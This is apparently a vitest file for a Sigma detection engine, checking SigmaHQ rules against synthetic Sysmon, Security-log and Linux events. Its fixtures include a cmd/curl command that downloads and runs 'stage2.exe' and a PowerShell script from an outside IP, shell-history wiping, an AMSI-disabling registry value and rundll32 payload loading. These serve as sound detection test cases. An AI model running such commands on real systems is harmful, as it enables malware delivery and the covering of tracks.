/**
 * Realistic SigmaHQ rules against realistic events in evtx-JSON and Windows event XML shapes:
 * each detects what the rule intends and passes over what it should not. Rules are read from
 * ../shared (skipped when absent).
 */
import { existsSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { loadRules } from '../sigma/load.ts';
import { readEvents } from './read-events.ts';
import { compileMatcher } from './compile-matcher.ts';
import { evaluateEvents } from './evaluate.ts';

const ROOT = path.resolve('../shared/sigma/rules');
const present = existsSync(ROOT);
if (!present) console.warn(`skipping realistic rule tests: ${ROOT} is absent`);

interface Source {
  provider: string;
  guid: string;
  channel: string;
}
const SYSMON: Source = { provider: 'Microsoft-Windows-Sysmon', guid: '{5770385F-C22A-43E0-BF4C-06F5698FFBD9}', channel: 'Microsoft-Windows-Sysmon/Operational' };
const SECURITY: Source = { provider: 'Microsoft-Windows-Security-Auditing', guid: '{54849625-5478-4994-A5BA-3E3B0328C30D}', channel: 'Security' };

const esc = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');

function xml(source: Source, eventId: number, data: Record<string, string | number | null>): string {
  const fields = Object.entries(data)
    .map(([k, v]) => (v === null ? `<Data Name="${k}" />` : `<Data Name="${k}">${esc(String(v))}</Data>`))
    .join('');
  return (
    `<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><Provider Name="${source.provider}" Guid="${source.guid}" />` +
    `<EventID>${eventId}</EventID><Version>2</Version><Level>4</Level><Task>12345</Task><Opcode>0</Opcode><Keywords>0x8020000000000000</Keywords>` +
    `<TimeCreated SystemTime="2024-05-02T08:41:17.5564213Z" /><EventRecordID>918273</EventRecordID><Correlation />` +
    `<Execution ProcessID="684" ThreadID="5120" /><Channel>${source.channel}</Channel><Computer>WS042.corp.example.com</Computer><Security /></System>` +
    `<EventData>${fields}</EventData></Event>`
  );
}

function evtxJson(source: Source, eventId: number, data: Record<string, string | number | null>): string {
  return JSON.stringify({
    Event: {
      '#attributes': { xmlns: 'http://schemas.microsoft.com/win/2004/08/events/event' },
      System: {
        Provider: { '#attributes': { Name: source.provider, Guid: source.guid } },
        EventID: eventId,
        Version: 5,
        Level: 4,
        TimeCreated: { '#attributes': { SystemTime: '2024-05-02T08:41:17.556421Z' } },
        EventRecordID: 918273,
        Execution: { '#attributes': { ProcessID: 3044, ThreadID: 4172 } },
        Channel: source.channel,
        Computer: 'WS042.corp.example.com',
        Security: { '#attributes': { UserID: 'S-1-5-18' } },
      },
      EventData: data,
    },
  });
}

function processCreation(image: string, commandLine: string | undefined, parent = 'C:\\Windows\\explorer.exe'): Record<string, string | number | null> {
  const name = image.slice(image.lastIndexOf('\\') + 1);
  const event: Record<string, string | number | null> = {
    RuleName: '-',
    UtcTime: '2024-05-02 08:41:17.553',
    ProcessGuid: '{8f3a1b2c-5e4d-6633-9a01-000000002a00}',
    ProcessId: 7312,
    Image: image,
    FileVersion: '10.0.22621.1',
    Description: name,
    Product: 'Microsoft® Windows® Operating System',
    Company: 'Microsoft Corporation',
    OriginalFileName: name.toUpperCase(),
    CommandLine: commandLine ?? null,
    CurrentDirectory: 'C:\\Users\\bob\\',
    User: 'CORP\\bob',
    LogonGuid: '{8f3a1b2c-5d10-6633-d3c2-0a0000000000}',
    LogonId: '0xac2d3',
    TerminalSessionId: 1,
    IntegrityLevel: 'Medium',
    Hashes: 'SHA1=1B2C3D4E5F60718293A4B5C6D7E8F90112233445,MD5=0A1B2C3D4E5F60718293A4B5C6D7E8F9,SHA256=00112233445566778899AABBCCDDEEFF00112233445566778899AABBCCDDEEFF,IMPHASH=3A4B5C6D7E8F90A1B2C3D4E5F6071829',
    ParentProcessGuid: '{8f3a1b2c-5a00-6633-1c01-000000002a00}',
    ParentProcessId: 5068,
    ParentImage: parent,
    ParentCommandLine: parent,
    ParentUser: 'CORP\\bob',
  };
  // Sysmon always writes CommandLine; some forwarders drop empty fields.
  if (commandLine === undefined) delete event.CommandLine;
  return event;
}

function run(file: string, events: string[], shape: 'xml' | 'evtx-json') {
  const text = readFileSync(path.join(ROOT, file), 'utf8');
  const loaded = loadRules(text);
  expect(loaded.diagnostics.filter((d) => d.severity === 'error'), file).toEqual([]);
  const compiled = compileMatcher(loaded.rules[0]);
  expect(compiled.diagnostics).toEqual([]);
  const input = shape === 'xml' ? `<Events>\n${events.join('\n')}\n</Events>` : events.join('\n');
  const read = readEvents(input);
  expect(read.diagnostics.filter((d) => d.severity === 'error')).toEqual([]);
  expect(read.events).toHaveLength(events.length);
  return evaluateEvents(compiled, read.events).results;
}

describe.skipIf(!present)('realistic SigmaHQ rules and events', () => {
  it('process_creation with windash and contains|all (curl download and execute)', () => {
    const ev = (cmd: string) => evtxJson(SYSMON, 1, processCreation('C:\\Windows\\System32\\cmd.exe', cmd));
    const r = run(
      'windows/process_creation/proc_creation_win_cmd_curl_download_exec_combo.yml',
      [
        ev('"C:\\Windows\\system32\\cmd.exe" /c curl http://198.51.100.23/stage2.exe -o %TEMP%\\svc.exe & start %TEMP%\\svc.exe'),
        ev('cmd.exe \u2013c curl https://198.51.100.23/p.ps1 -o p.ps1 & powershell -f p.ps1'),
        ev('"C:\\Windows\\system32\\cmd.exe" /c curl http://198.51.100.23/stage2.exe -o %TEMP%\\svc.exe'),
        ev('"C:\\Windows\\system32\\cmd.exe" /k dir C:\\'),
      ],
      'evtx-json',
    );
    expect(r.map((x) => x.verdict)).toEqual(['match', 'match', 'nomatch', 'nomatch']);
    expect(r[0].reasons[0]).toMatch(/^matched selection \(CommandLine '"C:\\Windows\\system32\\cmd.exe" \/c .*' contains ' \/c ', CommandLine .* contains all of 'curl '\|'http'\|'-o'\|'&'\)$/);
    expect(r[1].reasons[0]).toContain("contains ' \u2013c '");
    expect(r[2].reasons[0]).toContain("does not contain '&' (all values required)");
  });

  it('registry_set (AMSI disabled) in XML', () => {
    const ev = (details: string) =>
      xml(SYSMON, 13, {
        RuleName: 'T1562',
        EventType: 'SetValue',
        UtcTime: '2024-05-02 08:41:17.553',
        ProcessGuid: '{8f3a1b2c-5e4d-6633-9a01-000000002a00}',
        ProcessId: 4412,
        Image: 'C:\\Windows\\regedit.exe',
        TargetObject: 'HKU\\S-1-5-21-3623811015-3361044348-30300820-1013\\Software\\Microsoft\\Windows Script\\Settings\\AmsiEnable',
        Details: details,
        User: 'CORP\\bob',
      });
    const r = run('windows/registry/registry_set/registry_set_amsi_disable.yml', [ev('DWORD (0x00000000)'), ev('DWORD (0x00000001)')], 'xml');
    expect(r.map((x) => x.verdict)).toEqual(['match', 'nomatch']);
    expect(r[1].reasons[0]).toContain("Details 'DWORD (0x00000001)' ≠ 'DWORD (0x00000000)'");
  });

  it('security channel rule with EventID (hidden user creation) in XML', () => {
    const ev = (id: number, user: string) =>
      xml(SECURITY, id, {
        TargetUserName: user,
        TargetDomainName: 'CORP',
        TargetSid: 'S-1-5-21-3623811015-3361044348-30300820-1107',
        SubjectUserSid: 'S-1-5-21-3623811015-3361044348-30300820-500',
        SubjectUserName: 'Administrator',
        SubjectDomainName: 'CORP',
        SubjectLogonId: '0x3e7',
        PrivilegeList: '-',
        SamAccountName: user,
        DisplayName: '%%1793',
        UserPrincipalName: '-',
      });
    const r = run('windows/builtin/security/win_security_hidden_user_creation.yml', [ev(4720, 'svc-backup$'), ev(4720, 'HomeGroupUser$'), ev(4720, 'alice'), ev(4624, 'svc-backup$')], 'xml');
    expect(r.map((x) => x.verdict)).toEqual(['match', 'filtered', 'nomatch', 'nomatch']);
    expect(r[0].reasons[0]).toBe("matched selection (EventID 4720 = 4720, TargetUserName svc-backup$ endswith '$')");
    expect(r[1].filteredBy).toEqual(['filter_main_homegroup']);
    expect(r[3].reasons[0]).toContain('EventID 4624 ≠ 4720');
  });

  it('keyword rule (shell history cleared) on Linux log lines', () => {
    const text = readFileSync(path.join(ROOT, 'linux/builtin/lnx_shell_clear_cmd_history.yml'), 'utf8');
    const compiled = compileMatcher(loadRules(text).rules[0]);
    const read = readEvents(
      [
        { '@timestamp': '2024-05-02T08:41:17Z', host: { name: 'web01' }, process: { name: 'bash', pid: 2231 }, message: 'root@web01:~# rm -f /root/.bash_history' },
        { '@timestamp': '2024-05-02T08:41:19Z', host: { name: 'web01' }, process: { name: 'bash', pid: 2231 }, message: 'HISTORY -C' },
        { '@timestamp': '2024-05-02T08:41:21Z', host: { name: 'web01' }, process: { name: 'bash', pid: 2231 }, message: 'ls -la /root' },
      ]
        .map((e) => JSON.stringify(e))
        .join('\n'),
    );
    const r = evaluateEvents(compiled, read.events).results;
    expect(r.map((x) => x.verdict)).toEqual(['match', 'match', 'nomatch']);
    expect(r[0].reasons[0]).toContain("keyword 'rm *sh_history' found");
    expect(r[2].reasons[0]).toContain('no keyword found');
  });

  it('regular expression rule (network discovery commands)', () => {
    const ev = (cmd: string) => xml(SYSMON, 1, processCreation('C:\\Windows\\System32\\ipconfig.exe', cmd, 'C:\\Windows\\System32\\cmd.exe'));
    const r = run('windows/process_creation/proc_creation_win_susp_network_command.yml', [ev('ipconfig   /all'), ev('route print -4'), ev('ipconfig /renew')], 'xml');
    expect(r.map((x) => x.verdict)).toEqual(['match', 'match', 'nomatch']);
    expect(r[0].reasons[0]).toContain('matches /ipconfig\\s+/all/');
  });

  it('null and empty filters (rundll32 with an uncommon extension)', () => {
    const ev = (cmd: string | undefined, parent?: string) => evtxJson(SYSMON, 1, processCreation('C:\\Windows\\System32\\rundll32.exe', cmd, parent));
    const r = run(
      'windows/process_creation/proc_creation_win_rundll32_uncommon_dll_extension.yml',
      [
        ev('rundll32.exe C:\\Users\\Public\\payload.dat,DllRegisterServer'),
        ev('"C:\\Windows\\system32\\rundll32.exe" C:\\Windows\\system32\\shell32.dll,Control_RunDLL'),
        ev(undefined),
        ev(''),
        evtxJson(SYSMON, 1, processCreation('C:\\Windows\\System32\\notepad.exe', 'notepad.exe x.dat')),
      ],
      'evtx-json',
    );
    expect(r.map((x) => x.verdict)).toEqual(['match', 'filtered', 'filtered', 'filtered', 'nomatch']);
    expect(r[1].filteredBy).toEqual(['filter_main_known_extension']);
    expect(r[2].filteredBy).toEqual(['filter_main_null']);
    expect(r[3].filteredBy).toEqual(['filter_main_empty']);
  });

  it('the 4,432-value hash rule finds a listed hash inside Hashes, whatever its case', () => {
    const file = 'windows/driver_load/driver_load_win_vuln_drivers.yml';
    const text = readFileSync(path.join(ROOT, file), 'utf8');
    const md5 = /MD5=([0-9a-f]{32})/.exec(text)![1];
    const imphash = [...text.matchAll(/IMPHASH=([0-9a-f]{32})/g)].at(-1)![1];
    const ev = (hashes: string) =>
      xml(SYSMON, 6, {
        RuleName: '-',
        UtcTime: '2024-05-02 08:41:17.553',
        ImageLoaded: 'C:\\Windows\\System32\\drivers\\gdrv.sys',
        Hashes: hashes,
        Signed: 'true',
        Signature: 'Giga-Byte Technology',
        SignatureStatus: 'Expired',
      });
    const r = run(
      file,
      [
        ev(`SHA1=FE10018AF723986DB50701C8532DF5ED98B17C39,MD5=${md5.toUpperCase()},SHA256=31F4CFB4C71DA44120752721103A16512444C13C2AC2D857A7E6F13CB679B427,IMPHASH=0000000000000000000000000000000A`),
        ev(`MD5=00000000000000000000000000000000,IMPHASH=${imphash}`),
        ev('SHA1=0000000000000000000000000000000000000000,MD5=00000000000000000000000000000000,SHA256=0000000000000000000000000000000000000000000000000000000000000000,IMPHASH=00000000000000000000000000000000'),
      ],
      'xml',
    );
    expect(r.map((x) => x.verdict)).toEqual(['match', 'match', 'nomatch']);
    expect(r[0].reasons[0]).toContain(`contains 'MD5=${md5}'`);
    expect(r[2].reasons[0]).toMatch(/does not contain 'MD5=[0-9a-f]{32}'\|.*more\)/);
  });
});
